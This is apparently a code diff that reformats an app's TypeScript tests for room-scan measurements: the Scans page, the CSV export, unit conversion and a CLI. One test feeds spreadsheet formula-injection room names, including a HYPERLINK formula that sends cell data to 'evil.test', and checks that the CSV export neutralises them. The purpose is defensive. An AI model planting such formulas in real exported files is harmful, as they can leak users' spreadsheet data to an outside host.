@@ -13,17 +13,42 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
   let body: string;
   beforeEach(async () => {
     const rooms = [
-      { name: 'Kitchen', ...rectangularRoom({ width: 4.2, length: 3.1, height: 2.45, yaw: 0.3, doors: [{ wall: 0, offset: 1, width: 0.82, height: 2.04 }], windows: [{ wall: 1, offset: 1.5, width: 1.2, height: 1.1 }] }) },
+      {
+        name: 'Kitchen',
+        ...rectangularRoom({
+          width: 4.2,
+          length: 3.1,
+          height: 2.45,
+          yaw: 0.3,
+          doors: [{ wall: 0, offset: 1, width: 0.82, height: 2.04 }],
+          windows: [{ wall: 1, offset: 1.5, width: 1.2, height: 1.1 }],
+        }),
+      },
       { name: 'Hall', ...rectangularRoom({ width: 1.5, length: 5, height: 2.45, at: [4, 0], missingWalls: [1] }) },
       { name: '<b>Attic</b>', notes: 'no geometry here' },
     ];
     body = JSON.stringify({ rooms });
-    const res = await f.app.inject({ method: 'POST', url: '/api/scan/upload', headers: { 'x-scan-key': f.home.uploadKey, 'content-type': 'application/json' }, payload: body });
+    const res = await f.app.inject({
+      method: 'POST',
+      url: '/api/scan/upload',
+      headers: { 'x-scan-key': f.home.uploadKey, 'content-type': 'application/json' },
+      payload: body,
+    });
     expect(res.statusCode).toBe(200);
-    scanId = res.json<{ scanIds?: string[]; id?: string }>().id ?? (await f.world.store.db.selectFrom('scans').select('id').where('workspace_id', '=', f.home.workspaceId).orderBy('received_at', 'desc').executeTakeFirstOrThrow()).id;
+    scanId =
+      res.json<{ scanIds?: string[]; id?: string }>().id ??
+      (
+        await f.world.store.db
+          .selectFrom('scans')
+          .select('id')
+          .where('workspace_id', '=', f.home.workspaceId)
+          .orderBy('received_at', 'desc')
+          .executeTakeFirstOrThrow()
+      ).id;
   });
 
-  const get = (url: string, as: Person = f.owner) => f.app.inject({ method: 'GET', url, headers: { cookie: as.cookie } });
+  const get = (url: string, as: Person = f.owner) =>
+    f.app.inject({ method: 'GET', url, headers: { cookie: as.cookie } });
   const ws = (rest: string) => `/w/${f.home.workspaceId}${rest}`;
 
   it('the page shows each room’s figures, the totals and a plan; the CSV has the same numbers; the bytes stay exact', async () => {
@@ -58,13 +83,28 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
   it('room names that a spreadsheet would run are guarded in the CSV; the numbers stay numbers', async () => {
     const names = ['=HYPERLINK("http://evil.test/?"&A1,"click")', '@SUM(1+1)', '+1+2;=3'];
     const rooms = names.map((name, i) => ({ name, ...rectangularRoom({ width: 4, length: 2 + i, height: 2.5 }) }));
-    const up = await f.app.inject({ method: 'POST', url: '/api/scan/upload', headers: { 'x-scan-key': f.home.uploadKey, 'content-type': 'application/json' }, payload: JSON.stringify({ rooms }) });
+    const up = await f.app.inject({
+      method: 'POST',
+      url: '/api/scan/upload',
+      headers: { 'x-scan-key': f.home.uploadKey, 'content-type': 'application/json' },
+      payload: JSON.stringify({ rooms }),
+    });
     expect(up.statusCode).toBe(200);
-    const hostileId = (await f.world.store.db.selectFrom('scan_rooms').select('scan_id').where('name', '=', '@SUM(1+1)').executeTakeFirstOrThrow()).scan_id;
+    const hostileId = (
+      await f.world.store.db
+        .selectFrom('scan_rooms')
+        .select('scan_id')
+        .where('name', '=', '@SUM(1+1)')
+        .executeTakeFirstOrThrow()
+    ).scan_id;
     const csv = await get(ws(`/scans/${hostileId}/measurements.csv`));
     expect(csv.statusCode).toBe(200);
     const rows = parse(csv.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;
-    expect(rows.map((r) => r.name)).toEqual([`'=HYPERLINK("http://evil.test/?"&A1,"click")`, "'@SUM(1+1)", "'+1+2;'=3"]);
+    expect(rows.map((r) => r.name)).toEqual([
+      `'=HYPERLINK("http://evil.test/?"&A1,"click")`,
+      "'@SUM(1+1)",
+      "'+1+2;'=3",
+    ]);
     expect(rows.map((r) => [r.room, r.floorArea_m2, r.perimeter_m, r.doors])).toEqual([
       ['1', '8.00', '12.00', '0'],
       ['2', '12.00', '14.00', '0'],
@@ -80,22 +120,38 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
       method: 'POST',
       url: ws('/settings'),
       headers: { cookie: f.owner.cookie, 'content-type': 'application/x-www-form-urlencoded' },
-      payload: new URLSearchParams({ _csrf: f.owner.csrf, name: 'Home', timeZone: 'UTC', units: 'imperial' }).toString(),
+      payload: new URLSearchParams({
+        _csrf: f.owner.csrf,
+        name: 'Home',
+        timeZone: 'UTC',
+        units: 'imperial',
+      }).toString(),
     });
     const page = await get(ws(`/scans/${scanId}`));
     // 20.52 m² = 220.9 ft².
     expect(page.body).toContain('id="total-floor-area">221 ft²</td>');
     expect(page.body).toContain('>13′ 9″<'); // the kitchen's 4.2 m wall on its plan
-    const rows = parse((await get(ws(`/scans/${scanId}/measurements.csv`))).rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;
+    const rows = parse((await get(ws(`/scans/${scanId}/measurements.csv`))).rawPayload, {
+      bom: true,
+      columns: true,
+    }) as Array<Record<string, string>>;
     expect(rows[0]).toMatchObject({ name: 'Kitchen', floorArea_ft2: '140' });
   });
 
   it('measured after commit by the sweep, and again when the reader improves; the CLI prints the same', async () => {
     expect(await scansToMeasure(f.world.ctx, 10)).toContain(scanId);
     // A sweep that has caught up looks only at scans received since its last look.
-    const received = (await f.world.store.db.selectFrom('scans').select('received_at').where('id', '=', scanId).executeTakeFirstOrThrow()).received_at;
+    const received = (
+      await f.world.store.db
+        .selectFrom('scans')
+        .select('received_at')
+        .where('id', '=', scanId)
+        .executeTakeFirstOrThrow()
+    ).received_at;
     expect(await scansToMeasure(f.world.ctx, 10, received)).toContain(scanId);
-    expect(await scansToMeasure(f.world.ctx, 10, new Date(Date.parse(received) + 1).toISOString())).not.toContain(scanId);
+    expect(await scansToMeasure(f.world.ctx, 10, new Date(Date.parse(received) + 1).toISOString())).not.toContain(
+      scanId,
+    );
     await measureScan({ ctx: f.world.ctx, input: { scanId } });
     expect(await scansToMeasure(f.world.ctx, 10)).not.toContain(scanId);
     // A row from an older reader is measured again.
@@ -103,9 +159,16 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
     expect(await scansToMeasure(f.world.ctx, 10)).toContain(scanId);
 
     const env = { DATABASE_URL: f.world.testDb.url, APP_SECRET: f.world.appSecret };
-    const measured = await cliJson<{ floorArea: number; units: string; table: { rows: string[][] } }>(['scans', 'measure', scanId], env);
+    const measured = await cliJson<{ floorArea: number; units: string; table: { rows: string[][] } }>(
+      ['scans', 'measure', scanId],
+      env,
+    );
     expect(measured.units).toBe('metric');
     expect(measured.floorArea).toBeCloseTo(20.52, 2);
-    expect(measured.table.rows.map((r) => [r[1], r[3]])).toEqual([['Kitchen', '13.02'], ['Hall', '7.50'], ['<b>Attic</b>', '']]);
+    expect(measured.table.rows.map((r) => [r[1], r[3]])).toEqual([
+      ['Kitchen', '13.02'],
+      ['Hall', '7.50'],
+      ['<b>Attic</b>', ''],
+    ]);
   });
 });
